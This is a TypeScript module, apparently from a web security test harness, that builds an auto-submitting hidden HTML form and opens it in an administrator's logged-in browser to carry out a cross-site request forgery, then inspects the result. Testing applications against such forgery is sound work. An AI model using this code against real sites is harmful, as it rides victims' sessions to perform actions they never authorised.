import type { Page } from "playwright-core";
import type { Target } from "./attack.ts";
import { type Host, withAttackerPage } from "./attacker-page.ts";

/** A form that is submitted as soon as its page is opened. */
export interface ForgedForm {
  action: URL;
  fields: Record<string, string>;
  encoding?: "application/x-www-form-urlencoded" | "multipart/form-data" | "text/plain";
  /** The host of the page. */
  host: Host;
}

/**
 * Opens the attacker's page in the browser of an administrator, which submits the form.
 *
 * @param inspect inspects the result in the same browser
 */
export function submitForgedForm<Result>(
  { browser, cookies }: Target,
  form: ForgedForm,
  inspect: (page: Page) => Promise<Result>,
): Promise<Result> {
  const { host, action } = form;
  return withAttackerPage({ browser, cookies, host, html: toHtml(form) }, async (page, address) => {
    const responsePromise = page.waitForResponse(
      (response) => response.request().method() === "POST" && response.url() === action.href,
    );
    await page.goto(address);
    await responsePromise;
    await page.waitForLoadState();
    return inspect(page);
  });
}

function toHtml({ action, fields, encoding = "application/x-www-form-urlencoded" }: ForgedForm) {
  const inputs = Object.entries(fields).map(
    ([name, value]) =>
      `<input type="hidden" name="${escapeHtml(name)}" value="${escapeHtml(value)}">`,
  );
  return `<form method="post" action="${action.href}" enctype="${encoding}">${inputs.join("")}</form>
    <script>document.forms[0].submit()</script>`;
}

const escapeHtml = (text: string) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
